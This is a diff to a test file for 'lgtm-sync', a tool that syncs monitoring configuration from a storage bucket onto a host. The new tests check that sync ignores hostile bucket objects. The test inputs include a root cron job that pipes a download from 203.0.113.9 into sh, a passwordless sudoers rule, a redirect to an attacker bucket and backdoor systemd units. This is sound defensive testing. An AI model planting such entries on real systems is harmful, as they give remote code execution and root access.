@@ -51,13 +51,14 @@ describe('lgtm-sync, run for real under a temporary root with a fake config buck
     expect(reloads()).toEqual([]);
   });
 
-  test('GIVEN a valid change THEN sync swaps it in and hot-reloads Prometheus', async () => {
+  test('GIVEN a valid change THEN sync swaps it in and hot-reloads Prometheus by SIGHUP (its lifecycle API stays off)', async () => {
     host.putObject('/etc/prometheus/rules/test.yml', RULES_V2);
     const result = await sync();
     expect(result.stderr).toBe('');
     expect(result.code).toBe(0);
     expect(host.file('etc/prometheus/rules/test.yml')).toBe(RULES_V2);
-    expect(reloads()).toEqual(['/-/reload/prometheus']);
+    expect(host.fake.calls()).toContain('systemctl reload prometheus.service');
+    expect(reloads()).toEqual([]);
     expect(existsSync(join(host.root, 'var/lib/lgtm-sync/rejected/prometheus'))).toBe(false);
     expect(host.file(`${PATHS.textfileDir}/lgtm_sync.prom`)).not.toContain('lgtm_config_sync_refused{');
   });
@@ -112,6 +113,33 @@ describe('lgtm-sync, run for real under a temporary root with a fake config buck
     expect(existsSync(join(host.root, 'root/.ssh/authorized_keys'))).toBe(false);
     expect(result.stdout).toContain('ignoring s3 object for /root/.ssh/authorized_keys');
     host.removeObject('/root/.ssh/authorized_keys');
+  });
+
+  test.each([
+    ['a cron job', '/etc/cron.d/lgtm-backdoor', '* * * * * root curl http://203.0.113.9/x | sh\n'],
+    ['a sudoers drop-in', '/etc/sudoers.d/lgtm-backdoor', 'ALL ALL=(ALL) NOPASSWD: ALL\n'],
+    ['new bootstrap settings that point future syncs at another bucket', '/etc/lgtm/bootstrap.env', 'LGTM_BUCKET=attacker-bucket\n'],
+    ['a unit the platform does not render', '/etc/systemd/system/backdoor.service', '[Service]\nExecStart=/bin/sh -c "id"\n'],
+    ['a drop-in for a platform unit', '/etc/systemd/system/prometheus.service.d/override.conf', '[Service]\nUser=root\n'],
+    ['a script outside the platform\'s own', '/usr/local/sbin/backdoor', '#!/bin/sh\nid\n'],
+  ])('GIVEN %s in the bucket THEN sync ignores it and installs nothing', async (_what, path, content) => {
+    const before = existsSync(join(host.root, path)) ? host.file(path) : undefined;
+    host.putObject(path, content);
+    const result = await sync();
+    host.removeObject(path);
+    expect(result.code).toBe(0);
+    expect(result.stdout).toContain(`ignoring s3 object for ${path}`);
+    expect(existsSync(join(host.root, path)) ? host.file(path) : undefined).toBe(before);
+    expect(host.fake.calls().filter((c) => /^systemctl (daemon-reload|restart|try-restart)/.test(c))).toEqual([]);
+  });
+
+  test('GIVEN a changed install script THEN sync starts it as a unit of its own (it needs what the sync\'s sandbox withholds)', async () => {
+    const changed = `${host.file(PATHS.installScript)}\n# a new pin\n`;
+    host.putObject(PATHS.installScript, changed);
+    const result = await sync();
+    expect(result.code).toBe(0);
+    expect(host.file(PATHS.installScript)).toBe(changed);
+    expect(host.fake.calls()).toContainEqual(expect.stringMatching(/^systemd-run --unit=lgtm-install-rerun --collect --no-block --setenv=LGTM_INSTALL_NO_SYNC=1 \S+\/usr\/local\/sbin\/lgtm-install$/));
   });
 
   test('GIVEN nothing changed THEN sync changes nothing', async () => {
